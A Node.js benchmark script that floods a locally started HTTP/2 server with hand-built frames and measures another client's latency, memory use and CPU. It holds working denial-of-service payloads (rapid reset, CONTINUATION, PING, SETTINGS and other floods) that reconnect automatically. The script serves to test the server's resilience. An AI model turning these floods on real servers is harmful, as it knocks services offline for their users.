/**
 * Clients of HTTP/2 that do much of what costs them nothing: what another client waits, and what the worker's memory comes to.
 *
 *   node bench/h2-floods.mjs [FLOOD…] [--seconds N] [--attackers N] [--tls] [--cli PATH]
 */

import { once } from 'node:events';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { connect as connectHttp2 } from 'node:http2';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { connect as connectTls } from 'node:tls';
import { fileURLToPath } from 'node:url';
import { parseArgs } from 'node:util';
import { makeCertificate } from './lib/certificate.mjs';
import { printMachine, printTable } from './lib/report.mjs';
import { quantile, shown, underAttack, waitsOf } from './lib/under-attack.mjs';

const frame = (type, flags, stream, payload = Buffer.alloc(0)) => {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
};
// GET / with :authority of one letter, by the static table.
const block = Buffer.from([0x82, 0x86, 0x84, 0x41, 1, 0x68]);
const times = (count, each) => Buffer.concat(Array.from({ length: count }, (_, at) => each(at)));
const code = Buffer.from([0, 0, 0, 8]);

/** What each sends again and again; `at` counts the streams of a connection. */
const floods = {
  none: undefined,
  'rapid reset': (at) =>
    times(50, (n) => Buffer.concat([frame(1, 5, (at + n) * 2 + 1, block), frame(3, 0, (at + n) * 2 + 1, code)])),
  CONTINUATION: (at) =>
    at === 0 ? frame(1, 1, 1, block) : times(50, () => frame(9, 0, 1, Buffer.from([0, 1, 0x61, 1, 0x62]))),
  PING: () => times(50, () => frame(6, 0, 0, Buffer.alloc(8))),
  SETTINGS: () => times(50, () => frame(4, 0, 0, Buffer.from([0, 4, 0, 0, 255, 255]))),
  PRIORITY: () => times(50, () => frame(2, 0, 1, Buffer.alloc(5))),
  'empty DATA': (at) =>
    at === 0
      ? frame(1, 4, 1, Buffer.concat([Buffer.from([0x83, 0x86, 0x84, 0x41, 1, 0x68])]))
      : times(50, () => frame(0, 0, 1)),
  WINDOW_UPDATE: () => times(50, () => frame(8, 0, 0, Buffer.from([0, 0, 0, 1]))),
};

const { values, positionals } = parseArgs({
  allowPositionals: true,
  options: {
    seconds: { type: 'string', default: '5' },
    attackers: { type: 'string', default: '4' },
    cli: { type: 'string', default: fileURLToPath(new URL('../dist/cli.js', import.meta.url)) },
    tls: { type: 'boolean', default: false },
    attack: { type: 'string' },
    port: { type: 'string' },
  },
});

const isTls = values.tls;

/** In a process of its own: as fast as the server takes it, and anew when it is sent away. */
function attack(port, make) {
  const begin = () => {
    const options = { port, host: '127.0.0.1' };
    const socket = isTls
      ? connectTls({ ...options, rejectUnauthorized: false, ALPNProtocols: ['h2'] })
      : connect(options);
    let at = 0;
    const send = () => {
      while (!socket.destroyed && socket.writable) {
        const bytes = make(at);
        at += 50;
        if (!socket.write(bytes)) break;
      }
    };
    socket.on(isTls ? 'secureConnect' : 'connect', () => {
      socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
      socket.write(frame(4, 0, 0));
      send();
    });
    socket.on('drain', () => setImmediate(send));
    socket.resume();
    socket.on('error', () => {});
    socket.on('close', () => setTimeout(begin, 1));
  };
  for (let count = 0; count < Number(values.attackers); count++) begin();
  setTimeout(() => process.send('begun'), 300);
}

async function measure(port, ms) {
  let failed = 0;
  const session = connectHttp2(`${isTls ? 'https' : 'http'}://127.0.0.1:${port}`, { rejectUnauthorized: false });
  session.on('error', (error) => console.log(String(error)));
  session.on('goaway', (code) => console.log(`GOAWAY ${code}`));
  const waits = await waitsOf(async () => {
    if (session.destroyed) throw new Error('the other client was sent away');
    const stream = session.request({ ':path': '/' });
    return once(stream, 'response')
      .then(() => text(stream))
      .catch(() => {
        failed++;
        return false;
      });
  }, ms);
  session.destroy();
  return { waits, failed };
}

async function main() {
  const folder = mkdtempSync(join(tmpdir(), 'tsgun-bench-'));
  writeFileSync(join(folder, 'app.mjs'), "export default (req, res) => { res.end('hello'); };\n");
  const { certfile, keyfile } = makeCertificate(folder);
  const bind = isTls
    ? ['-b', 'https://127.0.0.1:0', '--certfile', certfile, '--keyfile', keyfile]
    : ['-b', '127.0.0.1:0', '--http', 'h1,h2c'];
  const rows = [['flood', 'p50 of another client', 'p99', 'answered', 'failed', 'most memory', 'CPU of the server']];
  for (const name of positionals.length > 0 ? positionals : Object.keys(floods)) {
    const { measured, memory, cpuShare, ended } = await underAttack({
      cli: values.cli,
      args: [join(folder, 'app.mjs'), '--interface', 'node', '--workers', '1', ...bind],
      attack: floods[name] && ((port) => [...process.argv.slice(2), '--attack', name, '--port', String(port)]),
      seconds: Number(values.seconds),
      measure,
    });
    const { waits, failed } = measured;
    const figures = [quantile(waits, 0.5), quantile(waits, 0.99)].map(shown);
    rows.push([name, ...figures, String(waits.length), String(failed), memory, `${(cpuShare * 100).toFixed(0)} %`]);
    if (ended > 0) console.log(`${name}: ${ended} workers ended`);
  }
  printMachine();
  printTable(rows);
  rmSync(folder, { recursive: true });
}

if (values.attack === undefined) await main();
else attack(Number(values.port), floods[values.attack]);
